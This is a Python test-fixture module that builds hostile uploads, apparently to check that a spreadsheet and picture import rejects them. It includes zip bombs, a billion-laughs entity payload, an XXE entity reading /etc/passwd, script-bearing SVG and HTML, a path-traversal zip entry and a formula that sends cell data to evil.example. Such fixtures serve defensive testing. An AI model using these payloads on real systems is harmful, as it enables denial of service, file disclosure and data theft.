"""Files that are made to do harm: what is tried on every upload, and what has to become of each."""

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from struct import pack

from PIL import Image
from PIL.Image import Exif

MEGABYTE = 1024 * 1024
#: What a camera notes beside the picture (Exif 2.3, tag 0x010F: maker).
SECRET = "taken-by-a-camera-of-somebody"  # noqa: S105  # a mark to be found again
SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"look")'
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
SPACE = "http://schemas.openxmlformats.org"
TYPES = (
    f'<Types xmlns="{SPACE}/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
).encode()
RELATIONS = (
    f'<Relationships xmlns="{SPACE}/package/2006/relationships"><Relationship Id="r1" '
    f'Type="{SPACE}/officeDocument/2006/relationships/%s" Target="%s"/></Relationships>'
)
BOOK = (
    f'<workbook xmlns="{SPACE}/spreadsheetml/2006/main" xmlns:r="{SPACE}/officeDocument/2006/relationships">'
    '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
).encode()
OPEN = f'<worksheet xmlns="{SPACE}/spreadsheetml/2006/main"><sheetData>'.encode()
CLOSE = b"</sheetData></worksheet>"


def book(rows: Iterator[bytes], entities: bytes = b"") -> bytes:
    """An xlsx whose one sheet is written piece by piece, so that an enormous one takes no memory here either."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", HEAD + TYPES)
        packed.writestr("_rels/.rels", RELATIONS % ("officeDocument", "xl/workbook.xml"))
        packed.writestr("xl/_rels/workbook.xml.rels", RELATIONS % ("worksheet", "worksheets/sheet1.xml"))
        packed.writestr("xl/workbook.xml", HEAD + BOOK)
        with packed.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(HEAD + entities + OPEN)
            for piece in rows:
                sheet.write(piece)
            sheet.write(CLOSE)
    return out.getvalue()


def cell(place: str, text: str) -> bytes:
    """A cell with a text in it."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def heading(columns: int = 2) -> bytes:
    """The first row: SKU, stock, and more that mean nothing."""
    names = ["SKU", "Stock", *(f"more {i}" for i in range(columns - 2))]
    return b'<row r="1">' + b"".join(cell(f"{letters(i)}1", name) for i, name in enumerate(names)) + b"</row>"


def letters(place: int) -> str:
    """The letters of a column."""
    return (letters(place // 26 - 1) if place > 25 else "") + chr(65 + place % 26)


def bomb() -> bytes:
    """600 MB of spaces in a few hundred KB."""
    return book(iter([heading(), *([b" " * MEGABYTE] * 600)]))


def lying_bomb() -> bytes:
    """The same, with a list of files that says it is small."""
    content = bytearray(bomb())
    at = content.rfind(b"xl/worksheets/sheet1.xml") - 46
    content[at + 24 : at + 28] = pack("<I", 1000)
    return bytes(content)


def empty_rows() -> bytes:
    """A million rows in which nothing stands, and one cell."""
    rows = (f'<row r="{i}"><c r="A{i}" s="0"/></row>'.encode() for i in range(2, 1_000_002))
    return book(iter([heading(), *rows]))


def far_cell() -> bytes:
    """One cell in the last corner that a sheet has: 17 thousand million cells lie between."""
    return book(iter([heading(), b'<row r="1048576">', cell("XFD1048576", "x"), b"</row>"]))


def many_columns() -> bytes:
    """300 columns."""
    return book(iter([heading(300), b'<row r="2">', cell("A2", "A1"), cell("KN2", "x"), b"</row>"]))


def laughs() -> bytes:
    """Entities that stand for each other, ten times over ("billion laughs")."""
    inner = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    document = f'<!DOCTYPE x [<!ENTITY l0 "ha">{inner}]>'.encode()
    return book(iter([heading(), b'<row r="2">', cell("A2", "&l9;"), b"</row>"]), document)


def foreign_entity() -> bytes:
    """An entity that stands for a file of the machine."""
    document = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return book(iter([heading(), b'<row r="2">', cell("A2", "&f;"), cell("B2", "1"), b"</row>"]), document)


def packed(files: dict[str, bytes]) -> bytes:
    """A zip of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as found:
        for name, content in files.items():
            found.writestr(name, content)
    return out.getvalue()


def crowd() -> bytes:
    """A zip of 70,000 empty files."""
    return packed({f"{i}.png": b"" for i in range(70_000)})


def picture(kind: str = "PNG", side: int = 40) -> bytes:
    """A picture that tells who took it, and where."""
    notes = Exif()
    notes[0x010F] = SECRET
    out = io.BytesIO()
    Image.new("RGB", (side, side), "red").save(out, kind, exif=notes)
    return out.getvalue()


def huge_picture() -> bytes:
    """A PNG of 30,000 by 30,000 points in 100 KB: 2.7 GB once it is unpacked."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))

    squeezed = zlib.compressobj()
    lines = b"".join(squeezed.compress(b"\0" * 90_001) for _line in range(1000)) + squeezed.flush()
    shape = pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", shape) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


#: Sheets that nothing may be written of, and what the refusal has to say.
SHEETS: dict[str, tuple[Callable[[], bytes], str]] = {
    "a zip bomb": (bomb, "unpacked larger"),
    "a zip bomb that lies": (lying_bomb, "broken"),
    "a million empty rows": (empty_rows, "no rows"),
    "a cell in the last corner": (far_cell, "too large"),
    "300 columns": (many_columns, "columns"),
    "entities ten times over": (laughs, "broken"),
    "a broken file": (lambda: book(iter([heading()]))[:-200], "broken"),
    "a PDF": (lambda: b"%PDF-1.7 no sheet", "no sheet"),
    "a picture": (picture, "no sheet"),
    "a page": (lambda: b"<!doctype html><script>alert(1)</script>", "no sheet"),
    "a zip of something else": (lambda: packed({"a.txt": b"x"}), "no sheet"),
    "a program": (lambda: b"\x7fELF" + bytes(4000), "no sheet"),
}
#: Zips of pictures, and what the import has to say of them.
ZIPS: dict[str, tuple[Callable[[], bytes], str]] = {
    "no zip": (lambda: b"PK no zip", "no zip, or broken"),
    "too many pictures": (crowd, "files in the zip"),
    "a script for a picture": (lambda: packed({"T1.png": SCRIPT}), "no picture"),
    "a picture of 2.7 GB": (lambda: packed({"T1.png": huge_picture()}), "no picture"),
    "a name that climbs": (lambda: packed({"../../../T1.png": SCRIPT}), "no picture"),
    "a picture of 40 MB": (lambda: packed({"T1.png": bytes(40 * MEGABYTE)}), "no picture"),
}
#: What is no picture that may be shown.
PICTURES: dict[str, Callable[[], bytes]] = {
    "an SVG with a script": lambda: SCRIPT,
    "a page": lambda: b"<!doctype html><script>alert(1)</script>",
    "a GIF with a script behind": lambda: b"GIF89a" + SCRIPT,
    "a picture of 2.7 GB": huge_picture,
    "half a picture": lambda: picture(side=200)[:-120],
    "a program": lambda: b"\x7fELF" + bytes(4000),
}
